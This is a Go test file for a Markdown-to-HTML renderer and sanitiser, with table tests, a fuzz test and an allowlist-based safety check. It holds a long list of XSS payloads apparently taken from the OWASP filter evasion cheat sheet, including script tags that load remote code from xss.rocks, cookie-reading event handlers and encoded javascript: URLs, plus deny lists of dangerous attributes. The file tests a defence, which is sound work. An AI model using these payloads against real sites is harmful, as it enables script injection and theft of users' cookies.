package markup

import (
	"fmt"
	"io"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestHTMLRendersMarkdown(t *testing.T) {
	r := New()
	tests := []struct {
		name    string
		src     string
		want    []string // substrings the output must contain
		wantNot []string // substrings it must not contain
	}{
		{
			name: "second-level heading",
			src:  "## Новости",
			want: []string{"<h2>Новости</h2>"},
		},
		{
			name: "third- to sixth-level headings",
			src:  "### a\n\n#### b\n\n##### c\n\n###### d",
			want: []string{"<h3>a</h3>", "<h4>b</h4>", "<h5>c</h5>", "<h6>d</h6>"},
		},
		{
			// The page template owns the one <h1>; a "# " heading keeps its
			// text but not the element.
			name:    "first-level heading keeps its text without an h1",
			src:     "# Заголовок",
			want:    []string{"Заголовок"},
			wantNot: []string{"<h1"},
		},
		{
			name: "bullet list",
			src:  "- one\n- two",
			want: []string{"<ul>", "<li>one</li>", "<li>two</li>", "</ul>"},
		},
		{
			name: "ordered list keeps its start number",
			src:  "3. three\n4. four",
			want: []string{`<ol start="3">`, "<li>three</li>", "<li>four</li>"},
		},
		{
			name: "https link with title",
			src:  `[site](https://example.org/a?b=1 "Example")`,
			want: []string{`<a href="https://example.org/a?b=1" title="Example"`, ">site</a>"},
		},
		{
			name: "mailto link",
			src:  "[write](mailto:info@example.org)",
			want: []string{`<a href="mailto:info@example.org"`, ">write</a>"},
		},
		{
			name: "root-relative link",
			src:  "[page](/ru/o-nas)",
			want: []string{`<a href="/ru/o-nas"`, ">page</a>"},
		},
		{
			name: "path-relative link",
			src:  "[up](../events)",
			want: []string{`<a href="../events"`},
		},
		{
			name: "fragment link",
			src:  "[top](#top)",
			want: []string{`<a href="#top"`},
		},
		{
			name: "blockquote",
			src:  "> сказано",
			want: []string{"<blockquote>", "<p>сказано</p>", "</blockquote>"},
		},
		{
			name: "emphasis, strong and strikethrough",
			src:  "*em* **strong** ~~gone~~",
			want: []string{"<em>em</em>", "<strong>strong</strong>", "<del>gone</del>"},
		},
		{
			name: "image with alt text",
			src:  "![Логотип](https://example.org/logo.png)",
			want: []string{`<img src="https://example.org/logo.png" alt="Логотип"`},
		},
		{
			name: "table with alignment",
			src:  "| a | b |\n|:-|-:|\n| 1 | 2 |",
			want: []string{"<table>", "<th", ">a</th>", "<td", ">2</td>"},
		},
		{
			name:    "code span and block escape their content",
			src:     "`<b>`\n\n```\n<script>alert(1)</script>\n```",
			want:    []string{"<code>&lt;b&gt;</code>", "<pre><code>&lt;script&gt;"},
			wantNot: []string{"<script"},
		},
		{
			name: "hard line break and rule",
			src:  "a  \nb\n\n---",
			want: []string{"<br>", "<hr>"},
		},
		{
			// CommonMark does not take "<svg/" for a tag, so it is text.
			name:    "tag-like text that is not HTML is escaped",
			src:     "x <svg/onload=alert(1)> y",
			want:    []string{"x &lt;svg/onload=alert(1)&gt; y"},
			wantNot: []string{"<svg"},
		},
		{
			name: "text is escaped",
			src:  "1 < 2 & 3 > 2",
			want: []string{"1 &lt; 2 &amp; 3 &gt; 2"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(r.HTML(tt.src))
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("HTML(%q) = %q, want it to contain %q", tt.src, got, w)
				}
			}
			for _, w := range tt.wantNot {
				if strings.Contains(got, w) {
					t.Errorf("HTML(%q) = %q, want it not to contain %q", tt.src, got, w)
				}
			}
			if err := checkSafe(got); err != nil {
				t.Errorf("HTML(%q) = %q: %v", tt.src, got, err)
			}
		})
	}
}

// TestHTMLDropsRawHTML covers hostile markup written into Markdown: none of
// it may come out as markup, and the usual tell-tales of script never appear.
func TestHTMLDropsRawHTML(t *testing.T) {
	r := New()
	tests := []struct {
		name string
		src  string
		keep string // text that should survive, if any
	}{
		{name: "script block", src: "<script>alert(1)</script>"},
		{name: "inline script", src: "text <script>alert(1)</script> more", keep: "text"},
		{name: "img onerror", src: `<img src=x onerror=alert(1)>`},
		{name: "inline img onerror", src: `see <img src=x onerror="alert(1)"> here`, keep: "see"},
		{name: "iframe", src: `<iframe src="https://evil.example/"></iframe>`},
		{name: "style element", src: "<style>body{display:none}</style>"},
		{name: "svg onload", src: `<svg onload=alert(1)>`},
		{name: "inline svg onload", src: `x <svg onload=alert(1)> y`, keep: "x"},
		{name: "style attribute", src: `<p style="position:fixed;top:0">cover</p>`},
		{name: "inline style attribute", src: `a <span style="color:red">red</span> b`, keep: "red"},
		{name: "raw javascript link", src: `<a href="javascript:alert(1)">x</a>`},
		{name: "raw javascript link with leading spaces", src: `<a href="  javascript:alert(1)">x</a>`},
		{name: "raw vbscript link", src: `<a href="vbscript:msgbox(1)">x</a>`},
		{name: "raw data link", src: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
		{name: "raw link with entity-encoded tab", src: `<a href="jav&#x09;ascript:alert(1)">x</a>`},
		{name: "markdown javascript link", src: "[x](javascript:alert(1))", keep: "x"},
		{name: "markdown javascript link in mixed case", src: "[x](JaVaScRiPt:alert(1))", keep: "x"},
		{name: "markdown link with entity-encoded tab", src: "[x](jav&#x09;ascript:alert(1))", keep: "x"},
		{name: "markdown link with entity-encoded j", src: "[x](&#106;avascript:alert(1))", keep: "x"},
		{name: "markdown link in angle brackets", src: "[x](<javascript:alert(1)>)", keep: "x"},
		{name: "markdown vbscript link", src: "[x](vbscript:msgbox(1))", keep: "x"},
		{name: "markdown data link", src: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", keep: "x"},
		{name: "markdown javascript image", src: "![x](javascript:alert(1))"},
		{name: "reference link to javascript", src: "[x][evil]\n\n[evil]: javascript:alert(1)", keep: "x"},
		{name: "html block with event handler", src: "<div onclick=\"alert(1)\">\n\nclick\n\n</div>", keep: "click"},
		{name: "object", src: `<object data="javascript:alert(1)"></object>`},
		{name: "form action", src: `<form action="javascript:alert(1)"><button>go</button></form>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(r.HTML(tt.src))
			lower := strings.ToLower(got)
			for _, bad := range []string{"onerror", "onload", "onclick", "javascript:", "vbscript:", "data:", "<script", "<iframe", "<style", "<svg", "<object", "<form", " style="} {
				if strings.Contains(lower, bad) {
					t.Errorf("HTML(%q) = %q, contains %q", tt.src, got, bad)
				}
			}
			if err := checkSafe(got); err != nil {
				t.Errorf("HTML(%q) = %q: %v", tt.src, got, err)
			}
			if tt.keep != "" && !strings.Contains(got, tt.keep) {
				t.Errorf("HTML(%q) = %q, lost the text %q", tt.src, got, tt.keep)
			}
		})
	}
}

func TestSanitise(t *testing.T) {
	r := New()
	tests := []struct {
		name    string
		in      string
		want    string // the exact output, when it matters
		contain []string
		lacks   []string
	}{
		{name: "allowed structure passes unchanged", in: "<h2>T</h2><p><em>a</em> <strong>b</strong></p>", want: "<h2>T</h2><p><em>a</em> <strong>b</strong></p>"},
		{name: "script element and its content go", in: "<p>a</p><script>alert(1)</script>", want: "<p>a</p>"},
		{name: "style element and its content go", in: "<style>p{color:red}</style><p>a</p>", want: "<p>a</p>"},
		{name: "iframe goes", in: `<iframe src="https://example.org/"></iframe><p>a</p>`, want: "<p>a</p>"},
		{name: "event attribute goes, image stays", in: `<img src="/m/a.png" onerror="alert(1)" alt="a">`, contain: []string{`src="/m/a.png"`, `alt="a"`}, lacks: []string{"onerror"}},
		{name: "style and class attributes go", in: `<p style="color:red" class="x">a</p>`, want: "<p>a</p>"},
		{name: "lang attribute stays", in: `<p lang="ky">Салам</p>`, want: `<p lang="ky">Салам</p>`},
		{name: "bad lang attribute goes", in: `<p lang="x&quot; onclick=&quot;a">a</p>`, want: "<p>a</p>"},
		{name: "javascript link loses the element, keeps the text", in: `<a href="javascript:alert(1)">x</a>`, want: "x"},
		{name: "javascript link with leading spaces", in: `<a href="  javascript:alert(1)">x</a>`, want: "x"},
		{name: "entity-encoded tab in scheme", in: `<a href="jav&#x09;ascript:alert(1)">x</a>`, want: "x"},
		{name: "vbscript link", in: `<a href="vbscript:msgbox(1)">x</a>`, want: "x"},
		{name: "data link", in: `<a href="data:text/html,<script>alert(1)</script>">x</a>`, want: "x"},
		{name: "https link stays", in: `<a href="https://example.org/">x</a>`, contain: []string{`<a href="https://example.org/"`, ">x</a>"}},
		{name: "mailto link stays", in: `<a href="mailto:a@example.org">x</a>`, contain: []string{`href="mailto:a@example.org"`}},
		{name: "relative link stays", in: `<a href="/ky/">x</a>`, contain: []string{`href="/ky/"`}},
		{name: "ol start must be a number", in: `<ol start="1;x"><li>a</li></ol>`, want: "<ol><li>a</li></ol>"},
		{name: "cell align must be a known word", in: `<table><tr><td align="javascript">a</td></tr></table>`, lacks: []string{"align"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(r.Sanitise(tt.in))
			if tt.want != "" && got != tt.want {
				t.Errorf("Sanitise(%q) = %q, want %q", tt.in, got, tt.want)
			}
			for _, w := range tt.contain {
				if !strings.Contains(got, w) {
					t.Errorf("Sanitise(%q) = %q, want it to contain %q", tt.in, got, w)
				}
			}
			for _, w := range tt.lacks {
				if strings.Contains(got, w) {
					t.Errorf("Sanitise(%q) = %q, want it not to contain %q", tt.in, got, w)
				}
			}
			if err := checkSafe(got); err != nil {
				t.Errorf("Sanitise(%q) = %q: %v", tt.in, got, err)
			}
		})
	}
}

// owaspVectors are from the OWASP XSS filter evasion cheat sheet (written
// down from memory, some shortened), plus a few newer favourites.
var owaspVectors = []string{
	`<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<a onmouseover=alert(document.cookie)>xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
	`<SCRIPT SRC=//xss.rocks/.j>`,
	"<IMG SRC=\"`('XSS')\"`",
	`<iframe src=http://xss.rocks/scriptlet.html <`,
	`\";alert('XSS');//`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<svg/onload=alert('XSS')>`,
	`<BODY ONLOAD=alert('XSS')>`,
	`<BGSOUND SRC="javascript:alert('XSS');">`,
	`<BR SIZE="&{alert('XSS')}">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<XSS STYLE="behavior: url(xss.htc);">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
	`<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
	`<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A;avascript&#x3A;alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<math><a xlink:href="javascript:alert(1)">x</a></math>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">`,
	`<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<p><svg><style><img src=x onerror=alert(1)></style></svg></p>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
	`<IMG SRC="javascript:alert('XSS')"`,
	`<a href="javascript&#58;alert(1)">x</a>`,
	`<a href="javascript&#0000058alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="//evil.example/%0Ajavascript:alert(1)" onclick=alert(1)>x</a>`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<input autofocus onfocus=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<p title="a" style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>`,
}

func TestOWASPVectors(t *testing.T) {
	r := New()
	for i, v := range owaspVectors {
		for _, path := range []struct {
			name string
			fn   func(string) string
		}{
			{"Sanitise", func(s string) string { return string(r.Sanitise(s)) }},
			{"HTML", func(s string) string { return string(r.HTML(s)) }},
		} {
			t.Run(fmt.Sprintf("%s/%02d", path.name, i), func(t *testing.T) {
				got := path.fn(v)
				lower := strings.ToLower(got)
				for _, bad := range []string{"<script", "<iframe", "<style", "<svg", "<math", "<object", "<embed", "<meta", "<link", "<base", " style="} {
					if strings.Contains(lower, bad) {
						t.Errorf("%s(%q) = %q, contains %q", path.name, v, got, bad)
					}
				}
				if err := checkSafe(got); err != nil {
					t.Errorf("%s(%q) = %q: %v", path.name, v, got, err)
				}
			})
		}
	}
}

// FuzzHTML checks that no input, however odd, brings a script element, an
// event attribute or a script URL through either path.
func FuzzHTML(f *testing.F) {
	for _, v := range owaspVectors {
		f.Add(v)
	}
	for _, s := range []string{
		"",
		"## Heading\n\n- a\n- b\n\n> quote *em* **strong**",
		"[x](javascript:alert(1))",
		"[x](jav&#x09;ascript:alert(1))",
		"[x]( javascript:alert(1) )",
		"<javascript:alert(1)>",
		"![a](https://example.org/a.png \"t\") [m](mailto:a@b.c)",
		"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
		"`<script>`",
		"[a](/x \"javascript:alert(1)\")",
	} {
		f.Add(s)
	}
	r := New()
	f.Fuzz(func(t *testing.T, src string) {
		for name, got := range map[string]string{
			"HTML":     string(r.HTML(src)),
			"Sanitise": string(r.Sanitise(src)),
		} {
			if strings.Contains(strings.ToLower(got), "<script") {
				t.Fatalf("%s(%q) = %q, contains <script", name, src, got)
			}
			if err := checkSafe(got); err != nil {
				t.Fatalf("%s(%q) = %q: %v", name, src, got, err)
			}
		}
	})
}

// allowed lists the elements and attributes the policy may let through.
var allowed = map[string]map[string]bool{
	"a":    {"href": true, "title": true, "rel": true},
	"img":  {"src": true, "alt": true, "title": true, "width": true, "height": true, "align": true},
	"abbr": {"title": true}, "ol": {"start": true}, "th": {"align": true}, "td": {"align": true},
	"p": {}, "br": {}, "hr": {}, "h2": {}, "h3": {}, "h4": {}, "h5": {}, "h6": {}, "blockquote": {},
	"pre": {}, "code": {}, "ul": {}, "li": {}, "strong": {}, "em": {}, "b": {}, "i": {}, "s": {},
	"del": {}, "sub": {}, "sup": {}, "table": {}, "thead": {}, "tbody": {}, "tr": {},
	"figure": {}, "figcaption": {},
}

// checkSafe parses out as a browser would and reports the first element or
// attribute outside the allowlist, any event handler or style attribute,
// and any URL whose scheme is not http, https or mailto. Attribute values
// arrive entity-decoded from the tokenizer, and the URL check drops the
// whitespace and control characters browsers ignore in a scheme.
func checkSafe(out string) error {
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if z.Err() == io.EOF {
				return nil
			}
			return z.Err()
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			attrs, ok := allowed[tok.Data]
			if !ok {
				return fmt.Errorf("element <%s> is not allowed", tok.Data)
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") {
					return fmt.Errorf("event attribute %s on <%s>", a.Key, tok.Data)
				}
				if key == "style" {
					return fmt.Errorf("style attribute on <%s>", tok.Data)
				}
				if a.Namespace != "" || !attrs[key] && key != "lang" {
					return fmt.Errorf("attribute %s on <%s> is not allowed", a.Key, tok.Data)
				}
				if key == "href" || key == "src" {
					if err := checkURL(a.Val); err != nil {
						return fmt.Errorf("<%s %s>: %v", tok.Data, a.Key, err)
					}
				}
			}
		}
	}
}

func checkURL(v string) error {
	var b strings.Builder
	for _, c := range v {
		if c > ' ' && c != 0x7f {
			b.WriteRune(c)
		}
	}
	u := strings.ToLower(b.String())
	scheme, _, found := strings.Cut(u, ":")
	if !found || strings.ContainsAny(scheme, "/?#") {
		return nil // relative
	}
	switch scheme {
	case "http", "https", "mailto":
		return nil
	}
	return fmt.Errorf("URL %q has scheme %q", v, scheme)
}

// TestCheckSafe makes sure the oracle the other tests rely on would notice
// what it is meant to notice.
func TestCheckSafe(t *testing.T) {
	tests := []struct {
		name string
		in   string
		bad  bool
	}{
		{name: "plain paragraph", in: "<p>a</p>"},
		{name: "https link", in: `<a href="https://example.org/" rel="nofollow">x</a>`},
		{name: "relative link with a colon in the path", in: `<a href="/a/javascript:b">x</a>`},
		{name: "script element", in: "<script>alert(1)</script>", bad: true},
		{name: "event attribute", in: `<p onclick="alert(1)">a</p>`, bad: true},
		{name: "upper-case event attribute", in: `<p ONCLICK="alert(1)">a</p>`, bad: true},
		{name: "style attribute", in: `<p style="color:red">a</p>`, bad: true},
		{name: "javascript link", in: `<a href="javascript:alert(1)">x</a>`, bad: true},
		{name: "javascript link behind spaces", in: `<a href="  javascript:alert(1)">x</a>`, bad: true},
		{name: "javascript link with an encoded tab", in: `<a href="jav&#x09;ascript:alert(1)">x</a>`, bad: true},
		{name: "data image", in: `<img src="data:image/png;base64,AAAA">`, bad: true},
		{name: "element outside the allowlist", in: `<div>a</div>`, bad: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := checkSafe(tt.in)
			if (err != nil) != tt.bad {
				t.Errorf("checkSafe(%q) = %v, want bad=%v", tt.in, err, tt.bad)
			}
		})
	}
}

func TestLinksStayFollowableAndHeadingsStartAtH2(t *testing.T) {
	r := New()
	got := string(r.HTML("# Title\n\n## Part\n\n[in](/ru/partnery) and [out](https://sta.kg)"))
	for _, want := range []string{"<h2>Title</h2>", "<h2>Part</h2>", `<a href="/ru/partnery">in</a>`, `<a href="https://sta.kg">out</a>`} {
		if !strings.Contains(got, want) {
			t.Errorf("output %q lacks %q", got, want)
		}
	}
	if strings.Contains(got, "nofollow") || strings.Contains(got, "<h1") {
		t.Errorf("output %q has nofollow or an h1", got)
	}
}

func TestPlain(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"**Bold** and *em* with [a link](https://example.org) `code`.", "Bold and em with a link code."},
		{"## Heading\n\nFirst para\nsoft break.\n\n- one\n- two", "Heading\nFirst para soft break.\none\ntwo"},
		{"<script>alert(1)</script>\n\ntext <b>raw</b>", "text raw"},
		{"![Alt text](/media/x.png)", "Alt text"},
	}
	for _, tt := range tests {
		if got := Plain(tt.in); got != tt.want {
			t.Errorf("Plain(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
